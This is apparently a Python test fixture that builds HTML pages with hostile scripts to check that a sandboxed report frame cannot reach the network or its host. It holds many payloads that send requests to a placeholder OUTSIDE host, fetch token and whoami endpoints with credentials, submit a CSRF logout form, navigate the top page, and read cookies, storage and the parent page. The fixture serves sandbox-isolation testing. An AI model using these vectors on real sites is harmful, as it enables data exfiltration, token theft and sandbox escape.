"""Hostile reports: what a page of others might try, in a frame of the hub and anywhere.

`OUTSIDE` stands for the address of a server elsewhere, `UDP` for a port there; what a person is to
press is called `press`.
"""

from __future__ import annotations

PAGE = """<!doctype html><html lang="en"><head>{head}</head><body><p>A report</p>{body}<script>
{script}
document.body.dataset.ran = 'yes';
</script></body></html>"""


def page(script: str = "", body: str = "", head: str = "") -> str:
    """A report with a script."""
    return PAGE.format(script=script, body=body, head=head)


RTC = (
    "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
    " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }"
    " catch {}"
)
LATER = "setTimeout(() => { try { %s } catch {} }, 50);"
INSIDE = (
    "const f = document.createElement('iframe');"
    " f.srcdoc = document.all.inner.innerHTML; document.body.append(f);"
)
CALL = "fetch('OUTSIDE/inner', {mode: 'no-cors'}).catch(() => 0);"
ATTACKS = {
    "calls of the hub": page(
        "fetch('/api/whoami-v2', {credentials: 'include'}).catch(() => 0);"
        "const x = new XMLHttpRequest(); x.open('GET', '/settings/tokens');"
        " try { x.send(); } catch {}"
    ),
    "calls of others": page(
        "fetch('OUTSIDE/a', {mode: 'no-cors'}).catch(() => 0);"
        "navigator.sendBeacon('OUTSIDE/b', 'x');"
        "try { new WebSocket('OUTSIDE/c'.replace('http', 'ws')); } catch {}"
        "try { new EventSource('OUTSIDE/d'); } catch {}"
        "fetch('OUTSIDE/e', {method: 'POST', keepalive: true, mode: 'no-cors'}).catch(() => 0);"
    ),
    "pictures and other parts": page(
        "new Image().src = 'OUTSIDE/1'; import('OUTSIDE/2').catch(() => 0);",
        '<img alt="" src="OUTSIDE/3"><script src="OUTSIDE/4"></script><object data="OUTSIDE/5">'
        '</object><embed src="OUTSIDE/6"><video src="OUTSIDE/7" poster="OUTSIDE/8"></video>'
        '<svg><image href="OUTSIDE/9"/></svg>',
        '<link rel="stylesheet" href="OUTSIDE/0"><style>@import url(OUTSIDE/i);'
        " body { background: url(OUTSIDE/b) }"
        " @font-face { font-family: f; src: url(OUTSIDE/f) } p { font-family: f }</style>",
    ),
    "what browsers do beforehand": page(
        "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload',"
        " 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel;"
        " l.as = 'image'; l.href = 'OUTSIDE/' + rel; document.head.append(l); }"
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['OUTSIDE/s'],"
        " eagerness: 'immediate'}]}); document.head.append(s);"
    ),
    "a worker": page(
        "const b = new Blob([`fetch('OUTSIDE/w', {mode: 'no-cors'})`]);"
        "try { new Worker(URL.createObjectURL(b)); } catch {}"
    ),
    "WebRTC": page(RTC),
    "a frame": page(body='<iframe src="OUTSIDE/frame"></iframe>'),
    "a frame of its own": page(INSIDE, f'<template id="inner"><script>{CALL}</script></template>'),
    "WebRTC in a frame": page(INSIDE, f'<template id="inner"><script>{RTC}</script></template>'),
    "an empty frame": page(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "try { f.contentWindow.fetch('OUTSIDE/empty', {mode: 'no-cors'}).catch(() => 0); } catch {}"
    ),
    "a form": page(
        LATER % "document.forms[0].submit()",
        '<form method="post" action="OUTSIDE/form"><input name="a" value="b"></form>',
    ),
    "a form of the hub": page(
        LATER % "document.forms[0].submit()",
        '<form method="post" action="/logout"><input name="csrf" value="b"></form>',
    ),
    "a form in a window": page(
        LATER % "document.forms[0].submit()",
        '<form target="_blank" action="OUTSIDE/form"><input name="a" value="b"></form>',
    ),
    "a window": page(LATER % "open('OUTSIDE/window'); open('/settings/tokens')"),
    "the page around": page(LATER % "top.location = 'OUTSIDE/top'"),
    "going elsewhere": page(LATER % "location = 'OUTSIDE/gone'"),
    "going to the hub": page(LATER % "location = '/settings/tokens'"),
    "going where it is": page(
        LATER % "if (!location.search) location = location.pathname + '?told=words'"
    ),
    "a refresh": page(head='<meta http-equiv="refresh" content="0;url=OUTSIDE/refresh">'),
    "a late refresh": page(
        LATER % "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        " m.content = '0;url=OUTSIDE/late'; document.head.append(m)"
    ),
    "a link": page(body='<a id="press" href="OUTSIDE/link" ping="OUTSIDE/ping">more</a>'),
    "a link to a window": page(body='<a id="press" href="OUTSIDE/link" target="_blank">more</a>'),
    "a link around": page(body='<a id="press" href="OUTSIDE/link" target="_top">more</a>'),
    "a download": page(
        "document.all.press.addEventListener('click', () => 0)",
        '<a id="press" href="OUTSIDE/file" download>more</a>',
    ),
    "a form on a press": page(
        body='<form action="OUTSIDE/form"><button id="press" formtarget="_top">more</button></form>'
    ),
}
LOOKING_AROUND = page(
    "const outcomes = {origin: self.origin}; for (const [name, act] of Object.entries({"
    "cookie: () => document.cookie, storage: () => localStorage.length,"
    "session: () => sessionStorage.length, parent: () => parent.document.body.innerHTML,"
    "top: () => top.location.href, frame: () => frameElement.src,"
    "database: () => indexedDB.open('x'), worker: () => navigator.serviceWorker.controller"
    "})) { try { const v = act(); outcomes[name] = v ? String(v) : 'nothing'; }"
    " catch (error) { outcomes[name] = error.name; } }"
)
